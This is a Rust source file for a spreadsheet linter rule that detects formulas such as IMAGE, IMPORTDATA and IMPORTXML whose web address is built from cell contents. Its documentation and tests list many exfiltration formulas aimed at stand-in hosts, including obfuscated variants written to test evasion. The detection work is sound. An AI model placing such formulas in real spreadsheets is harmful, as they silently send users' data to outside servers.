use crate::ast::NodeId;
use crate::finding::Severity;
use crate::flow;
use crate::link;
use crate::rule::{Check, Context, Findings, declare_rule};

declare_rule! {
    /// *Flags an address on the web that is put together from the content of cells.*
    ///
    /// **Why** IMAGE, IMPORTXML, IMPORTDATA and their like fetch the address as soon as the sheet is
    /// opened. What the cells hold goes to that server, and nobody has to click for it: it is how
    /// data is carried out of a spreadsheet unseen.
    ///
    /// **Example**
    /// ```formula
    /// =IMAGE("https://collect.example/p?d=" & A1)
    /// =IMPORTDATA(CONCATENATE("https://collect.example/?", TEXTJOIN(",", TRUE, A1:A99)))
    /// =IMPORTXML("https://example.org/" & ENCODEURL(B2), "//title")
    /// =HYPERLINK("https://collect.example/?d=" & A1, "Click")
    /// =LET(to, "https://collect.example/?d=", what, INDIRECT("A1"), IMAGE(to & what))
    /// ```
    ///
    /// **Instead**
    /// ```formula
    /// =IMAGE("https://example.org/logo.png")
    /// =IMPORTXML(B2, "//title")
    /// =IMPORTDATA("https://example.org/" & "rates.csv")
    /// =IMAGE(IF(A1>0, "https://example.org/" & "up.png", "https://example.org/down.png"))
    /// ```
    ///
    /// **Limits** An address that a single cell holds is not flagged here, though that cell may
    /// have been put together. What only decides which of two written addresses is taken is not
    /// flagged either, nor is the number of a row. HYPERLINK sends nothing until a person follows it, so it is at most
    /// a low risk.
    "url-built-from-cells" {
        category: Security,
        severity: High,
        presets: [Recommended, Security],
        sees: Template,
        check: Check::Calls(link::WITH_ADDRESS, check),
    }
}

fn check(context: &Context<'_>, call: NodeId, findings: &mut Findings<'_>) {
    let formula = context.formula;
    let Some((function, [address, ..])) = formula.call(call) else {
        return;
    };
    if findings.is_full() || !flow::is_built_from_cells(context, *address) {
        return;
    }
    let name = function.name;
    if name == "HYPERLINK" {
        findings.report_at_most(
            Severity::Low,
            formula.span(*address),
            "The address of this HYPERLINK holds the content of cells, which goes to its server \
             when somebody follows it. Make sure that the server may have it.",
        );
    } else {
        findings.report(
            formula.span(*address),
            format!(
                "{name} fetches an address that holds the content of cells, so that content \
                 leaves the spreadsheet whenever it is opened, without a click. Use an address \
                 that is written out."
            ),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::RULE;
    use crate::finding::Severity;
    use crate::rules::testing::{findings, flagged};

    #[test]
    fn the_address_is_marked() {
        let address = "\"https://a.example/?\"&A1";
        assert_eq!(flagged(&RULE, &format!("=IMAGE({address},1)")), [address]);
    }

    #[test]
    fn a_link_that_must_be_followed_is_a_low_risk() {
        let found = findings(&RULE, "=HYPERLINK(\"https://a.example/\"&A1,\"x\")");
        assert_eq!(found[0].severity, Severity::Low);
    }

    #[test]
    fn no_detour_hides_the_cells() {
        for formula in [
            "=IMAGE(CONCAT(\"https://a.example/?\",A1))",
            "=IMAGE(concatenate(\"https://a.example/?\",ENCODEURL(A1)))",
            "=IMAGE(JOIN(\"&\",{\"https://a.example/?\";A1:A9}))",
            "=IMAGE(TEXTJOIN(\",\",TRUE,\"https://a.example/?\",A1:A9))",
            "=IMAGE(SUBSTITUTE(\"https://a.example/?d=X\",\"X\",A1))",
            "=IMAGE(REGEXREPLACE(A1,\"^\",\"https://a.example/?d=\"))",
            "=IMAGE(REPLACE(A1,1,0,\"https://a.example/?d=\"))",
            "=IMAGE(TEXT(A1,\"\"\"https://a.example/?\"\"@\"))",
            "=IMAGE(IF(B1,\"https://a.example/?\"&REPT(A1,2),\"\"))",
            "=IMAGE(IFERROR(\"https://a.example/?\"&VLOOKUP(1,A:B,2,0),\"\"))",
            "=IMAGE(\"https://a.example/?\"&INDIRECT(\"A1\"))",
            "=IMAGE(\"https://a.example/?\"&OFFSET(A1,1,1))",
            "=IMAGE(\"https://a.example/?\"&IMPORTRANGE(\"k\",\"A1\"))",
            "=IMAGE(\"https://a.example/?\"&SECRET_OF_SHEET())",
            "=IMAGE(\"https://a.example/?\"&Salaries)",
            "=IMAGE(\"https://a.example/?\"&Pay[Amount])",
            "=IMAGE(\"https://a.example/?\"&A1.email)",
            "=ARRAYFORMULA(IMAGE(\"https://a.example/?\"&A1:A9))",
            "=MAP(A1:A9,LAMBDA(x,IMAGE(\"https://a.example/?\"&x)))",
            "=MAP(A1:A9,LAMBDA(C1,IMAGE(\"https://a.example/?\"&C1)))",
            "=REDUCE(\"\",A1:A9,LAMBDA(a,c,IMAGE(\"https://a.example/?\"&c)))",
            "=IMAGE(REDUCE(\"https://a.example/?\",A1:A9,LAMBDA(a,c,a&c)))",
            "=LAMBDA(x,IMAGE(\"https://a.example/?\"&x))(A1)",
            "=LAMBDA(x,LAMBDA(y,IMAGE(\"https://a.example/?\"&y))(x))(A1)",
            "=LET(u,\"https://a.example/?\"&A1,v,u,IMAGE(v))",
            "=LET(f,LAMBDA(u,IMAGE(u)),f(\"https://a.example/?\"&A1))",
            "=LET(f,LAMBDA(x,\"https://a.example/?\"&x),IMAGE(f(A1)))",
            "=IMAGE((\"https://a.example/?\")&(((A1))))",
        ] {
            assert_eq!(flagged(&RULE, formula).len(), 1, "{formula}");
        }
    }

    #[test]
    fn what_holds_no_cells_is_left_alone() {
        for formula in [
            "=IMAGE(A1)",
            "=IMAGE(VLOOKUP(A1,B:C,2,0))",
            "=IMAGE(SUBSTITUTE(A1,\" \",\"%20\"))",
            "=IMPORTXML(\"https://a.example/?page=\"&ROW(A1),\"//a\")",
            "=LET(base,\"https://a.example/\",IMAGE(base&\"logo.png\"))",
            "=MAP({\"a\",\"b\"},LAMBDA(x,IMAGE(\"https://a.example/\"&x)))",
            "=IMAGE(IF(A1=\"x\",\"https://a.example/\"&\"b\",C1))",
            "=MAP(A1:A9,LAMBDA(u,IMAGE(u)))",
        ] {
            assert!(flagged(&RULE, formula).is_empty(), "{formula}");
        }
    }

    #[test]
    fn a_chain_of_names_without_end_is_not_followed_for_ever() {
        let name = |n: u32| format!("_{n},_{}&_{},", n - 1, n - 1);
        let names = (1..2_000).map(name).collect::<Vec<_>>().concat();
        let formula = format!("=LET(_0,\"https://a.example/\",{names}IMAGE(_1999))");
        assert_eq!(flagged(&RULE, &formula), ["_1999"]);
    }

    #[test]
    fn a_label_may_hold_cells() {
        assert!(flagged(&RULE, "=HYPERLINK(\"https://a.example/\",A1&B1)").is_empty());
    }
}
